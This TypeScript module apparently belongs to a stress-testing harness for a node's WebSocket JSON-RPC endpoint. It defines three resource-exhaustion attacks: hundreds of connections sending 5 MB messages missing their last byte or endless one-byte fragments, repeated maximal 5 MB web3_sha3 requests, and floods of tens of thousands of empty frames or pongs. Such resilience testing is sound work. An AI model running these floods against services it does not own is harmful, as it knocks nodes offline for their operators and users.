import { once } from 'node:events';
import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, type AttackContext, sized } from '../attack.ts';

const textFrame = 0x81;
const openFragment = 0x01;
const continuation = 0x00;
const pong = 0x8a;
const masked = 0x80;

/** WebSocket messages whose last byte never arrives, whole and in fragments of one byte. */
export const unfinishedMessages: Attack = {
  summary: '300 WebSockets that each send all but the last byte of 5 MB, and 100 that send fragments of one byte',
  attack: async (context) => {
    const size = sized(context, 5_242_880, 1_000_000);
    const most = Buffer.concat([longHead(size), Buffer.alloc(size - 1, 0x20)]);
    const fragments = Buffer.concat([
      Buffer.from([openFragment, masked | 1, 0, 0, 0, 0, 0x20]),
      ...Array.from({ length: 2_000 }, () => Buffer.from([continuation, masked | 1, 0, 0, 0, 0, 0x20])),
    ]);
    const sockets: Socket[] = [];
    for (let index = 0; index < sized(context, 300, 60) && !context.signal.aborted; index++) {
      sockets.push(await send(context, most));
    }
    for (let index = 0; index < sized(context, 100, 10) && !context.signal.aborted; index++) {
      sockets.push(await send(context, fragments));
    }
    await sleep(sized(context, 8_000, 1_500), undefined, { signal: context.signal }).catch(() => undefined);
    for (const socket of sockets) socket.destroy();
  },
};

/** Whole messages of the largest size, each on a connection of its own. */
export const longMessages: Attack = {
  summary: '250 WebSockets at a time that each send a message of 5 MB and wait for the response',
  attack: async (context) => {
    const request = '{"jsonrpc":"2.0","id":1,"method":"web3_sha3","params":["0x"]}';
    const text = request.replace('0x', `0x${'00'.repeat(sized(context, 2_621_000, 500_000))}`);
    const whole = Buffer.concat([longHead(text.length), Buffer.from(text)]);
    const work = async () => {
      const socket = await send(context, whole);
      socket.on('data', (chunk: Buffer) => {
        if (!/"id":1|unfinished/.test(chunk.toString('latin1'))) return;
        context.clients.tally.add('long messages answered');
        socket.destroy();
      });
      if (!socket.destroyed) await once(socket, 'close').catch(() => undefined);
    };
    const loop = async () => {
      for (let round = 0; round < sized(context, 1e9, 2) && !context.signal.aborted; round++) await work();
    };
    await Promise.all(Array.from({ length: sized(context, 250, 10) }, loop));
  },
};

/** Thousands of frames in each packet, from many connections, which leave as soon as a message is answered. */
export const tinyMessages: Attack = {
  summary: '500 WebSockets at a time that each send 40,000 empty messages or pongs at once and leave after a response',
  attack: async (context) => {
    const count = sized(context, 40_000, 10_000);
    const frames = (kind: number) => Buffer.alloc(6 * count, Buffer.from([kind, masked, 0, 0, 0, 0]));
    const messages = frames(textFrame);
    const pongs = Buffer.concat([frames(pong), messages.subarray(0, 6)]);
    const work = async (whole: Buffer) => {
      const socket = await send(context, whole);
      socket.on('data', (chunk: Buffer) => {
        if (!chunk.toString('latin1').includes('"error"')) return;
        context.clients.tally.add('tiny messages answered');
        socket.destroy();
      });
      if (!socket.destroyed) await once(socket, 'close').catch(() => undefined);
    };
    const loop = async (_: unknown, index: number) => {
      const whole = index % 2 === 0 ? messages : pongs;
      for (let round = 0; round < sized(context, 1e9, 2) && !context.signal.aborted; round++) await work(whole);
    };
    await Promise.all(Array.from({ length: sized(context, 500, 20) }, loop));
  },
};

function longHead(size: number): Buffer {
  const head = Buffer.alloc(14);
  head.set([textFrame, masked | 127]);
  head.writeBigUInt64BE(BigInt(size), 2);
  return head;
}

/** Opens a WebSocket and sends these bytes; counts the reason with which the node closes it. */
async function send({ clients, urls }: AttackContext, bytes: Buffer): Promise<Socket> {
  const socket = await clients.connect((urls.webSocket ?? '').replace('ws', 'http'));
  const upgrade = ['upgrade: websocket', 'connection: upgrade', 'sec-websocket-version: 13'];
  const key = `sec-websocket-key: ${Buffer.alloc(16).toString('base64')}`;
  const host = `host: ${new URL(urls.webSocket ?? '').host}`;
  socket.write(['GET / HTTP/1.1', host, ...upgrade, key, '', ''].join('\r\n'));
  socket.on('data', (chunk: Buffer) => {
    const reason = /[ -~]*unfinished[ -~]*/.exec(chunk.toString('latin1'));
    if (reason !== null) clients.tally.add(reason[0]);
  });
  socket.write(bytes);
  clients.tally.add('messages sent');
  return socket;
}
